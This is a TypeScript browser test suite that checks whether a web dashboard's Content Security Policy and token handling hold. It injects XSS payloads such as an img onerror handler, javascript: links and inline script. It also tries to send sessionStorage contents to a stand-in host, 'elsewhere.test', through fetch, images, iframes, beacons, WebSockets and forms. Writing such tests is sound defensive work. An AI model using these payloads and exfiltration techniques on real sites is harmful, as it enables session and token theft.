import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type CliProject, cliProject } from "../../cli/cli-project.ts";
import { NO_CHROMIUM, openBrowser } from "../../serve/browser/chromium.ts";
import { signedIn, watched } from "../../serve/browser/page.ts";
import { startService, type TestService } from "../../serve/service-client.ts";

// biome-ignore lint/suspicious/noExplicitAny: what runs in the page has other types than what runs in Node.
declare const window: any;

let project: CliProject;
let service: TestService;
let browser: Browser;
let elsewhere: Server;
/** What another site has received, with its headers. */
const received: string[] = [];

beforeAll(async () => {
  if (NO_CHROMIUM) return;
  project = await cliProject({
    yaml: { version: 1 },
    workers: { echo: { image: "corral/base", command: ["cat"] } },
  });
  service = await startService(project);
  browser = await openBrowser(["--host-resolver-rules=MAP *.test 127.0.0.1"]);
  elsewhere = createServer((request, response) => {
    received.push(`${request.url} ${JSON.stringify(request.headers)}`);
    response.setHeader("access-control-allow-origin", "*").setHeader("content-type", "text/html").end("<p>elsewhere");
  });
  await once(elsewhere.listen(0, "127.0.0.1"), "listening");
});
afterAll(async () => {
  elsewhere?.close();
  await browser?.close();
  await service?.[Symbol.asyncDispose]();
  await project?.[Symbol.asyncDispose]();
});

const other = (): string => `http://elsewhere.test:${(elsewhere.address() as AddressInfo).port}`;

describe.skipIf(NO_CHROMIUM)(
  `if a script got into the page, its policy${NO_CHROMIUM ? ` (${NO_CHROMIUM})` : ""}`,
  () => {
    it("runs no inline script, no handler in HTML and no javascript: link, and makes no HTML of texts", async () => {
      await using shown = await signedIn(browser, service);
      const outcome = await shown.page.evaluate(async () => {
        const { document } = window;
        const tries: Record<string, string> = {};
        const attempt = (what: string, act: () => void): void => {
          try {
            act();
            tries[what] = "done";
          } catch (error) {
            tries[what] = (error as Error).name;
          }
        };
        attempt("innerHTML", () => (document.body.innerHTML = "<img src=x onerror='window.pwned=1'>"));
        attempt("script text", () => {
          const script = document.createElement("script");
          script.append("window.pwned=2");
          document.body.append(script);
        });
        attempt("script URL", () => (document.createElement("script").src = "data:text/javascript,window.pwned=3"));
        attempt("timer", () => window.setTimeout("window.pwned=4"));
        attempt("document.write", () => document.write("<script>window.pwned=5</script>"));
        attempt("link", () => {
          const link = document.createElement("a");
          link.href = "javascript:window.pwned=6";
          document.body.append(link);
          link.click();
        });
        attempt("handler", () => document.body.setAttribute("onclick", "window.pwned=7"));
        document.body.click();
        await new Promise((resolve) => window.setTimeout(resolve, 300));
        return { pwned: window.pwned, tries };
      });
      expect(outcome.pwned).toBeUndefined();
      for (const what of ["innerHTML", "script URL", "timer", "document.write"])
        expect(outcome.tries[what], what).toBe("TypeError");
      expect(shown.troubles.some((line) => line.includes("Content Security Policy"))).toBe(true);
    });

    it("sends nothing to another site, by no way that a page has", async () => {
      await using shown = await signedIn(browser, service);
      const before = received.length;
      const outcomes = await shown.page.evaluate(async (url) => {
        const { document, navigator } = window;
        const secret = `${url}/?${encodeURIComponent(Object.values(window.sessionStorage).join())}`;
        const put = (tag: string, fields: object): Promise<string> =>
          new Promise((resolve) => {
            const element = document.createElement(tag);
            try {
              Object.assign(element, fields);
            } catch {
              return resolve("refused");
            }
            element.onload = () => resolve(`${tag} loaded`);
            element.onerror = () => resolve("refused");
            document.body.append(element);
            window.setTimeout(() => resolve("refused"), 500);
          });
        const asked = await Promise.all([
          fetch(secret, { mode: "no-cors" }).then(
            () => "fetched",
            () => "refused",
          ),
          put("img", { src: secret }),
          put("link", { rel: "stylesheet", href: secret }),
          put("link", { rel: "prefetch", href: secret }),
          put("iframe", { src: secret }),
          put("object", { data: secret }),
          put("video", { src: secret }),
        ]);
        navigator.sendBeacon(secret, "x");
        new window.WebSocket(secret.replace("http", "ws")).onerror = () => {};
        const form = Object.assign(document.createElement("form"), { action: secret, method: "post" });
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => window.setTimeout(resolve, 500));
        return asked;
      }, other());
      expect(outcomes.filter((outcome) => outcome.endsWith("fetched"))).toEqual([]);
      expect(received.slice(before)).toEqual([]);
    });

    it("is never broken by the page itself, and the page loads nothing from elsewhere", async () => {
      await using shown = await signedIn(browser, service);
      const asked: string[] = [];
      shown.page.on("request", (request) => asked.push(new URL(request.url()).origin));
      for (const place of [
        "#/",
        "#/runs",
        "#/inbox",
        "#/fleets",
        "#/changesets",
        "#/workers",
        "#/audit",
        "#/machine",
      ]) {
        await shown.go(place);
        await shown.page.waitForTimeout(200);
      }
      await shown.page.reload();
      await shown.page.getByRole("main").waitFor();
      expect(new Set(asked)).toEqual(new Set([`http://127.0.0.1:${service.port}`]));
      expect(shown.troubles.join("\n")).toBe("");
    });
  },
);

describe.skipIf(NO_CHROMIUM)(`a token${NO_CHROMIUM ? ` (${NO_CHROMIUM})` : ""}`, () => {
  it("leaves the address bar and the history at once, and is in no cookie, no storage that lasts, and no log", async () => {
    await using shown = await signedIn(browser, service);
    const { page, context } = shown;
    expect(page.url()).not.toContain(service.token);
    await shown.go("#/audit");
    await shown.go("#/fleets");
    for (let back = 0; back < 4; back += 1) {
      await page.goBack().catch(() => null);
      expect(page.url()).not.toContain(service.token);
    }
    await page.goto(`http://127.0.0.1:${service.port}/#/`);
    expect(await context.cookies()).toEqual([]);
    const kept = await page.evaluate(() => JSON.stringify({ ...window.localStorage }) + window.document.cookie);
    expect(kept).not.toContain(service.token);
    const loaded = await page.evaluate(() =>
      window.performance
        .getEntriesByType("resource")
        .map(({ name }: { name: string }) => name)
        .join(),
    );
    expect(loaded).not.toContain(service.token);
    expect(service.log()).not.toContain(service.token);
    expect(await page.evaluate(() => window.document.documentElement.outerHTML)).not.toContain(service.token);
  });

  it("goes to no other site with a link that is followed, and neither does the address", async () => {
    await using shown = await signedIn(browser, service);
    const { page } = shown;
    await shown.go("#/audit?run=0123456789ab");
    const before = received.length;
    await page.evaluate((url) => {
      const link = Object.assign(window.document.createElement("a"), { href: url });
      window.document.body.append(link);
      link.click();
    }, `${other()}/followed`);
    await page.waitForURL(`${other()}/followed`);
    // What the other page loads itself has that page as its referrer.
    const got = received.slice(before).find((line) => line.startsWith("/followed"));
    expect(got).toContain("/followed");
    expect(got).not.toContain(service.token);
    expect(got).not.toContain("referer");
    expect(got).not.toContain(String(service.port));
  });

  it("is not known to another tab, and is forgotten when its user signs out", async () => {
    await using shown = await signedIn(browser, service);
    const { page, context } = shown;
    const tab = await context.newPage();
    await tab.goto(`http://127.0.0.1:${service.port}/#/runs`);
    await tab.getByLabel("Token").waitFor();
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByLabel("Token").waitFor();
    await page.reload();
    await page.getByLabel("Token").waitFor();
    expect(await page.evaluate(() => JSON.stringify({ ...window.sessionStorage }))).not.toContain(service.token);
  });

  it("that is removed ends what is shown with it, and a wrong one shows nothing", async () => {
    const { id, token } = JSON.parse((await project.corral(["serve", "token", "create", "--json"])).stdout);
    await using shown = await signedIn(browser, service, { token });
    await shown.go("#/machine");
    expect((await project.corral(["serve", "token", "rm", id])).status).toBe(0);
    await shown.page.getByLabel("Token").waitFor({ timeout: 20_000 });
    expect(await shown.page.getByRole("navigation").count()).toBe(0);
    const page = await browser.newPage();
    const troubles = watched(page);
    await page.goto(`http://127.0.0.1:${service.port}/#token=${encodeURIComponent('"><img src=x onerror=alert(1)>')}`);
    await page.getByLabel("Token").waitFor();
    expect(page.url()).not.toContain("alert");
    expect(await page.locator("img").count()).toBe(0);
    expect(troubles.filter((line) => !line.includes("401"))).toEqual([]);
    await page.close();
  });
});
